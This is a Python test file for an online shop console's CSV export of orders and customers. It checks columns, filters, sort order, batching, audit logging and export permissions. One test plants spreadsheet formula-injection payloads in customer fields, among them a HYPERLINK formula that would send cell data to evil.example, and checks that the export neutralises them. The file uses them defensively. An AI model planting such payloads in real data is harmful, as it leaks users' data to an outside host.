"""Orders and customers exported as CSV from the console, through HTTP: the list's filters and
sort, the exact columns and values (money from minor units, times in the shop's zone), cells
that would run as formulas written as text, who may export, the audit entry, and statements
that do not grow with the rows."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime

import pytest
from sqlalchemy import select

from commerce.audit import AuditEntry
from commerce.customers.services import add_address, set_customer_tags
from commerce.extensions import db
from commerce.orders.csv_export import (
    CUSTOMER_COLUMNS,
    ORDER_COLUMNS,
    export_customers,
    export_orders,
)
from commerce.orders.models import CANCELLED, CONSOLE, FULFILLED, REFUNDED
from commerce.orders.queries import OrderFilter
from tests.commerce.orders.test_queries import build_order
from tests.conftest import US_ADDRESS, htmx_headers, sign_in

ORDERS_URL = "/console/orders/export"
CUSTOMERS_URL = "/console/customers/export"


def rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype == "text/csv"
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(body[1:])))


def header(response) -> list[str]:
    return next(csv.reader(io.StringIO(response.get_data(as_text=True)[1:])))


def numbers(table: list[dict[str, str]]) -> list[str]:
    return [r["number"] for r in table]


def listed(response) -> list[str]:
    """Order numbers as the console list shows them, top to bottom."""
    text = response.get_data(as_text=True)
    return re.findall(r'<td class="nowrap"><a href="/console/orders/\d+">#(\d+)</a>', text)


def exports(action: str) -> list[AuditEntry]:
    return list(
        db.session.scalars(select(AuditEntry).where(AuditEntry.action == action).order_by("id"))
    )


@pytest.fixture
def make_order(checkout_shop):
    return lambda **kw: build_order(checkout_shop, **kw)


def summer_code():
    from commerce.promotions.coupons import add_coupon_code
    from commerce.promotions.services import create_promotion, enable_promotion

    promotion = create_promotion(
        by=None,
        name="Summer sale",
        requires_coupon=True,
        actions=[{"kind": "percent_off_order", "params": {"percent": 20}}],
        usage_limit=20,
    )
    add_coupon_code(promotion, code="SUMMER", by=None)
    enable_promotion(promotion, by=None)


def order_with_code(shop, *, code: str, name: str, customer=None):
    from commerce.checkout.cart import add_to_cart
    from commerce.checkout.services import (
        apply_checkout_coupon,
        choose_shipping_method,
        place_order,
        save_information,
        start_checkout,
    )
    from tests.conftest import TEST_CARD

    checkout = start_checkout(
        add_to_cart(None, variant_id=shop.small, quantity=2), customer=customer
    )
    save_information(checkout, email="ada@example.com", address={**US_ADDRESS, "name": name})
    choose_shipping_method(checkout, code="STD")
    apply_checkout_coupon(checkout, code=code)
    order = place_order(checkout.key, card=TEST_CARD).order
    assert order is not None
    return order


class TestOrderExport:
    def test_columns_and_values(self, app, client, login, checkout_shop, monkeypatch):
        monkeypatch.setitem(app.config, "SHOP_TIMEZONE", "America/New_York")
        summer_code()
        order = order_with_code(checkout_shop, code="summer", name="Ada Lovelace")
        order.placed_at = datetime(2026, 3, 1, 15, 4, 5, 123456)  # naive UTC
        order.refunded_total = 500
        db.session.commit()
        login("support")

        response = client.get(ORDERS_URL)
        assert header(response) == list(ORDER_COLUMNS)
        assert response.headers["Content-Disposition"].startswith('attachment; filename="orders-')
        (row,) = rows(response)
        # 2 x 25.00 = 50.00; 20% off = 10.00; STD shipping 5.00; CA tax 7.25% of 45.00 = 3.26
        # (shipping is taxed)
        assert row == {
            "number": str(order.number),
            "placed_at": "2026-03-01T10:04:05-05:00",
            "status": "open",
            "payment_status": "paid",
            "fulfillment_status": "unfulfilled",
            "customer_name": "Ada Lovelace",
            "email": "ada@example.com",
            "items": "2",
            "subtotal": "50.00",
            "discounts": "10.00",
            "shipping": "5.00",
            "tax": "3.26",
            "total": "48.26",
            "refunded": "5.00",
            "currency": "USD",
            "channel": "web",
            "shipping_country": "US",
            "shipping_region": "CA",
            "shipping_city": "San Francisco",
            "shipping_postal_code": "94105",
            "shipping_method": "Standard",
            "codes": "SUMMER",
        }

    def test_the_list_filter_and_sort(self, client, login, make_order):
        ada = make_order(email="ada@example.com", name="Ada", quantity=1)
        bob = make_order(
            email="bob@example.com", name="Bob", status=CANCELLED, payment_status=REFUNDED
        )
        shipped = make_order(
            email="cy@example.com", quantity=0, medium=2, fulfillment_status=FULFILLED
        )
        phone = make_order(email="ada@example.com", name="Ada", quantity=3, channel=CONSOLE)
        login("admin")

        everything = rows(client.get(ORDERS_URL))
        assert len(everything) == 4
        for query, expected in [
            ("status=open&status=completed", {ada, shipped, phone}),
            ("fulfillment=fulfilled", {shipped}),
            ("channel=console", {phone}),
            ("email=ada@example.com", {ada, phone}),
            ("q=BOB", {bob}),
            ("payment=refunded&status=cancelled", {bob}),
            (f"total_min={phone.total // 100}.{phone.total % 100:02d}", {phone}),
        ]:
            got = {r["number"] for r in rows(client.get(f"{ORDERS_URL}?{query}"))}
            assert got == {str(o.number) for o in expected}, query
        # The same order as the list page, for every sort and direction.
        for sort in ("placed", "number", "total", "customer"):
            for direction in ("asc", "desc"):
                query = f"sort={sort}&dir={direction}"
                page = client.get(f"/console/orders?{query}")
                assert numbers(rows(client.get(f"{ORDERS_URL}?{query}"))) == listed(page), query

    def test_batches_continue_where_the_last_one_ended(self, app, make_order):
        """Ties on the sort key (same customer name, same total) are broken by id, as in the
        list: a small batch size gives the very same file."""
        for n in range(5):
            make_order(name="Same Name", quantity=1 + n % 2)
        for sort in ("customer", "total", "placed"):
            flt = OrderFilter(sort=sort, direction="asc")
            whole = "".join(export_orders(flt, by=None))
            assert "".join(export_orders(flt, by=None, batch_size=2)) == whole
            assert whole.count("\n") == 6

    def test_a_wrong_filter_is_not_exported(self, client, login, make_order):
        make_order()
        login("support")
        response = client.get(f"{ORDERS_URL}?from=yesterday&status=open")
        assert response.status_code == 303
        assert response.location.endswith("/console/orders?status=open&from=yesterday")
        page = client.get(response.location).get_data(as_text=True)
        assert "Not exported: placed from: Enter a date like 2026-01-31." in page
        fragment = client.get(f"{ORDERS_URL}?total_min=abc", headers=htmx_headers())
        assert fragment.status_code == 204 and "Not exported" in fragment.headers["HX-Trigger"]
        assert exports("order.export") == []

    def test_audited_with_the_filter(self, app, client, login, make_staff, make_order):
        make_order(status=CANCELLED, payment_status=REFUNDED)
        make_order()
        member = login("support")
        assert len(rows(client.get(f"{ORDERS_URL}?status=cancelled&sort=total&dir=asc"))) == 1
        (entry,) = exports("order.export")
        assert entry.actor_id == member.id and entry.subject_type == "order"
        assert entry.after == {
            "filter": {"statuses": ["cancelled"], "sort": "total", "direction": "asc"},
            "orders": 1,
        }
        admin = app.test_client()
        assert sign_in(admin, make_staff("admin")).status_code == 303
        log = admin.get("/console/audit?subject_type=order").get_data(as_text=True)
        assert "Order: export" in log and "Orders CSV" in log
        assert "statuses: cancelled; sort: total; direction: asc" in log

    def test_statements_do_not_grow_with_rows(self, client, login, make_order, query_counter):
        summer_code()
        make_order()
        login("support")
        client.get(ORDERS_URL)
        with query_counter() as few:
            assert len(rows(client.get(ORDERS_URL))) == 1
        for _ in range(5):
            make_order(quantity=1, medium=1)
        with query_counter() as many:
            assert len(rows(client.get(ORDERS_URL))) == 6
        assert len(many) == len(few)


class TestCustomerExport:
    @pytest.fixture
    def ada(self, make_customer, checkout_shop):
        ada = make_customer(email="ada@lovelace.example", name="Ada Lovelace")
        ada.created_at = datetime(2025, 12, 31, 23, 30)
        db.session.commit()
        add_address(
            ada,
            name="Ada Lovelace",
            line1="12 St James's Square",
            city="London",
            postal_code="SW1Y 4JH",
            country="GB",
            phone="+44 20 7946 0000",
        )
        add_address(
            ada,
            name="Ada at work",
            line1="1 Analytical Way",
            city="Leeds",
            postal_code="LS1 1AA",
            country="GB",
        )
        set_customer_tags(ada, "vip, wholesale", by=None)
        first = build_order(checkout_shop, customer=ada, quantity=1)
        second = build_order(checkout_shop, customer=ada, quantity=2, refunded_total=1000)
        second.placed_at = datetime(2026, 2, 1, 12, 0)
        first.placed_at = datetime(2026, 1, 5, 9, 0)
        db.session.commit()
        assert first.paid_total == first.total and second.paid_total == second.total
        ada.spent = first.total + second.total - 1000  # money kept: paid less refunded
        return ada

    def test_columns_and_values(self, client, login, ada, make_customer):
        make_customer(email="grace@navy.example", name="Grace Hopper")
        login("support")
        response = client.get(CUSTOMERS_URL)
        assert header(response) == list(CUSTOMER_COLUMNS)
        grace, row = rows(response)  # newest first, as the list
        assert grace["email"] == "grace@navy.example" and grace["orders"] == "0"
        assert grace["total_spent"] == "0.00" and grace["last_order_at"] == ""
        assert grace["address_line1"] == ""
        assert row == {
            "name": "Ada Lovelace",
            "email": "ada@lovelace.example",
            "created_at": "2025-12-31T23:30:00+00:00",
            "orders": "2",
            "total_spent": f"{ada.spent // 100}.{ada.spent % 100:02d}",
            "currency": "USD",
            "spent_in_other_currencies": "",
            "last_order_at": "2026-02-01T12:00:00+00:00",
            "tags": "vip, wholesale",
            "address_name": "Ada Lovelace",
            "address_line1": "12 St James's Square",
            "address_line2": "",
            "address_city": "London",
            "address_region": "",
            "address_postal_code": "SW1Y 4JH",
            "address_country": "GB",
            "address_phone": "'+44 20 7946 0000",  # a leading + is a formula to a spreadsheet
        }

    def test_the_search_filter_and_audit(self, client, login, ada, make_customer):
        make_customer(email="grace@navy.example", name="Grace Hopper")
        member = login("support")
        (row,) = rows(client.get(f"{CUSTOMERS_URL}?q=NAVY"))
        assert row["email"] == "grace@navy.example"
        (entry,) = exports("customer.export")
        assert entry.actor_id == member.id and entry.actor_label == member.email
        assert entry.after == {"filter": {"q": "NAVY"}, "customers": 1}

    def test_statements_do_not_grow_with_rows(
        self, client, login, make_customer, checkout_shop, query_counter
    ):
        def customer_with_order():
            person = make_customer()
            add_address(
                person, name="A", line1="1 Road", city="Paris", postal_code="75001", country="FR"
            )
            build_order(checkout_shop, customer=person)

        customer_with_order()
        login("support")
        client.get(CUSTOMERS_URL)
        with query_counter() as few:
            assert len(rows(client.get(CUSTOMERS_URL))) == 1
        for _ in range(4):
            customer_with_order()
        with query_counter() as many:
            assert len(rows(client.get(CUSTOMERS_URL))) == 5
        assert len(many) == len(few)

    def test_batches(self, app, make_customer):
        for n in range(5):
            make_customer(email=f"p{n}@example.com")
        whole = "".join(export_customers("", by=None))
        assert "".join(export_customers("", by=None, batch_size=2)) == whole
        assert [line.split(",")[1] for line in whole.splitlines()[1:]] == [
            f'"p{n}@example.com"' for n in (4, 3, 2, 1, 0)
        ]


class TestFormulaCells:
    def test_cells_a_spreadsheet_would_run_are_text(
        self, client, login, checkout_shop, make_customer
    ):
        evil = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
        build_order(checkout_shop, name=evil)
        person = make_customer(email="x@example.com", name="@SUM(1+1)")
        add_address(
            person, name="-2+3", line1="=1+1", city="+cmd", postal_code="75001", country="FR"
        )
        login("admin")
        (order,) = rows(client.get(ORDERS_URL))
        assert order["customer_name"] == "'" + evil
        raw = client.get(ORDERS_URL).get_data(as_text=True)
        assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Open"")"' in raw
        (customer,) = rows(client.get(f"{CUSTOMERS_URL}?q=x@example"))
        assert customer["name"] == "'@SUM(1+1)"
        assert customer["address_name"] == "'-2+3"
        assert customer["address_city"] == "'+cmd"
        assert customer["address_line1"] == "'=1+1"


class TestWhoMayExport:
    @pytest.mark.parametrize("role", ["warehouse", "merchandiser"])
    def test_other_roles_are_refused(self, client, login, role):
        login(role)
        assert client.get(ORDERS_URL).status_code == 403
        assert client.get(CUSTOMERS_URL).status_code == 403
        assert exports("order.export") == exports("customer.export") == []

    def test_anonymous_goes_to_sign_in(self, client):
        response = client.get(ORDERS_URL)
        assert response.status_code == 302 and "/console/login" in response.location

    @pytest.mark.parametrize(("role", "shown"), [("support", True), ("warehouse", False)])
    def test_the_lists_offer_the_export_of_their_filter(
        self, client, login, make_order, make_customer, role, shown
    ):
        make_order(email="ada@example.com")
        make_customer(email="ada@example.com")
        login(role)
        page = client.get("/console/orders?status=open&sort=total").get_data(as_text=True)
        link = 'href="/console/orders/export?status=open&amp;sort=total"'
        assert (link in page) is shown
        fragment = client.get("/console/customers?q=ada", headers=htmx_headers())
        assert (
            'href="/console/customers/export?q=ada"' in fragment.get_data(as_text=True)
        ) is shown
